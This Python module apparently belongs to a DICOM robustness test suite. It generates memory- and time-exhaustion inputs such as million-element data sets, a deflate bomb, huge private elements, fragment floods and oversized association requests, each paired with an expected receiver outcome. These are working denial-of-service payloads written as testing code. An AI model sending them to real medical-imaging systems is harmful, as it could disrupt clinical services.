"""Inputs that cost a receiver far more memory or time than their bytes, as C-STOREs."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping

from hostile import (
    APPLICATION_CONTEXT,
    Attack,
    Fate,
    associate,
    command_set,
    context_item,
    item,
    message,
    p_data,
    request_items,
    store_attack,
    store_command,
    user_items,
)
from hostile_datasets import PIXELS, Slice, encapsulated, fragment
from pydicom.uid import (
    UID,
    CTImageStorage,
    DeflatedExplicitVRLittleEndian,
    ExplicitVRLittleEndian,
    ImplicitVRLittleEndian,
    RLELossless,
)

PRIVATE = (0x0029, 0x1000)
_SEQUENCE = struct.pack("<HH", *PRIVATE) + b"SQ\0\0\xff\xff\xff\xff"
_ITEM = b"\xfe\xff\x00\xe0\0\0\0\0"
_ITEM_OPEN = b"\xfe\xff\x00\xe0\xff\xff\xff\xff"
_ITEM_END = b"\xfe\xff\x0d\xe0\0\0\0\0"
_SEQUENCE_END = b"\xfe\xff\xdd\xe0\0\0\0\0"
_MEGABYTES = 1 << 20


def elements(count: int, *, implicit: bool = False) -> bytes:
    """Return private elements without a value, 8 bytes each, with rising tags."""
    end = b"\0\0\0\0" if implicit else b"LO\0\0"
    heads = (
        struct.pack("<HH", 0x0029 + 2 * (number >> 16), number & 0xFFFF) for number in range(count)
    )
    return b"".join(head + end for head in heads)


def flat(count: int, *, implicit: bool = False) -> bytes:
    """Return a data set with ``count`` more elements."""
    made = Slice(f"{count} elements {'implicit' if implicit else 'explicit'}")
    made.extra[PRIVATE] = elements(count, implicit=implicit)
    return made.encoded(ImplicitVRLittleEndian if implicit else ExplicitVRLittleEndian)


def empty_items(count: int) -> bytes:
    """Return a data set with a sequence of ``count`` items without elements."""
    made = Slice(f"{count} items")
    made.extra[PRIVATE] = _SEQUENCE + _ITEM * count + _SEQUENCE_END
    return made.encoded()


def small_sequences(count: int) -> bytes:
    """Return a data set with a sequence of ``count`` items, each with a sequence of its own."""
    made = Slice(f"{count} small sequences")
    inner = _ITEM_OPEN + _SEQUENCE + _ITEM + _SEQUENCE_END + _ITEM_END
    made.extra[PRIVATE] = _SEQUENCE + inner * count + _SEQUENCE_END
    return made.encoded()


def fragments(count: int) -> bytes:
    """Return a data set whose pixels are ``count`` fragments of nothing."""
    made = Slice(f"{count} fragments")
    made.extra[PIXELS] = encapsulated(fragment(b"") * count)
    return made.encoded()


def backslashes(count: int) -> bytes:
    """Return a data set whose Image Position has ``count`` values, all empty."""
    made = Slice(f"{count} values")
    made.elements[0x0020, 0x0032] = (b"DS", b"\\" * count)
    return made.encoded(ImplicitVRLittleEndian)


def large(size: int) -> bytes:
    """Return a data set with a private element of ``size`` bytes."""
    made = Slice(f"{size} private bytes")
    made.elements[PRIVATE] = (b"OB", bytes(size))
    return made.encoded()


def deflated(content: bytes) -> bytes:
    """Return a data set deflated."""
    return zlib.compress(content, wbits=-15)


def _store(name: str, content: bytes, syntax: UID = ExplicitVRLittleEndian) -> Attack:
    return store_attack(name, content, Fate.ENDED_OR_REFUSED, syntax=syntax)


def _crumbs(count: int) -> bytes:
    """Return a C-STORE whose data set comes byte by byte."""
    command = command_set(store_command(instance=b"1.2.3"))
    return message(command, None) + p_data(b"x", control=0) * count


def _requests(field: int, count: int, content: bytes | None) -> bytes:
    """Return requests of another kind, sent without waiting for an answer."""
    known = store_command(instance=b"1.2.3") | {0x0100: struct.pack("<H", field)}
    if content is None:
        known[0x0800] = b"\x01\x01"
    return message(command_set(known), content) * count


def _contexts() -> bytes:
    syntaxes = [f"1.2.840.10008.1.2.4.{number}".encode() for number in range(30)]
    ct = str(CTImageStorage).encode()
    asked = [context_item(number, ct, *syntaxes) for number in range(1, 256, 2)]
    user = item(0x50, b"".join(user_items()))
    return associate([item(0x10, APPLICATION_CONTEXT), *asked[:120], user])


def _sub_items() -> bytes:
    user = item(0x50, b"".join([*user_items(), item(0x54, b"\0\x031.2\x01\x01") * 4500]))
    return associate([*request_items()[:-1], user, user])


KINDS: Mapping[str, Callable[[], Attack]] = {
    "2^20 elements, explicit VR (8.4 MB)": lambda: _store("a", flat((1 << 20) - 100)),
    "2^20 elements, implicit VR (8.4 MB)": lambda: _store(
        "b", flat((1 << 20) - 100, implicit=True), ImplicitVRLittleEndian
    ),
    "2^20 items without elements (8.4 MB)": lambda: _store("c", empty_items(1 << 20)),
    "2^17 items with a sequence each (5.8 MB)": lambda: _store("d", small_sequences(1 << 17)),
    "2^20 elements, deflated": lambda: _store(
        "e", deflated(flat((1 << 20) - 100)), DeflatedExplicitVRLittleEndian
    ),
    "60 MB of zeros, deflated (60 kB)": lambda: _store(
        "f", deflated(large(60 * _MEGABYTES)), DeflatedExplicitVRLittleEndian
    ),
    "2^20 fragments (8.4 MB)": lambda: _store("g", fragments(1 << 20), RLELossless),
    "8 million values (8.4 MB)": lambda: _store("h", backslashes(1 << 23), ImplicitVRLittleEndian),
    "a private element of 64 MB": lambda: _store("i", large(64 * _MEGABYTES)),
    "100,000 fragments of 1 byte (1.3 MB)": lambda: Attack(
        name="j", payload=_crumbs(100_000), fate=Fate.SURVIVED, established=True
    ),
    "40 C-FIND with 1 MB, unasked": lambda: Attack(
        name="k",
        payload=_requests(0x20, 40, bytes(_MEGABYTES)),
        fate=Fate.SURVIVED,
        established=True,
    ),
    "3,000 N-EVENT-REPORT (0.4 MB)": lambda: Attack(
        name="l", payload=_requests(0x100, 3000, None), fate=Fate.SURVIVED, established=True
    ),
    "120 contexts of 30 syntaxes (112 kB)": lambda: Attack(
        name="m", payload=_contexts(), fate=Fate.SURVIVED
    ),
    "9,000 user items (100 kB)": lambda: Attack(name="n", payload=_sub_items(), fate=Fate.SURVIVED),
}
"""What is sent, by name; made only when it is sent."""
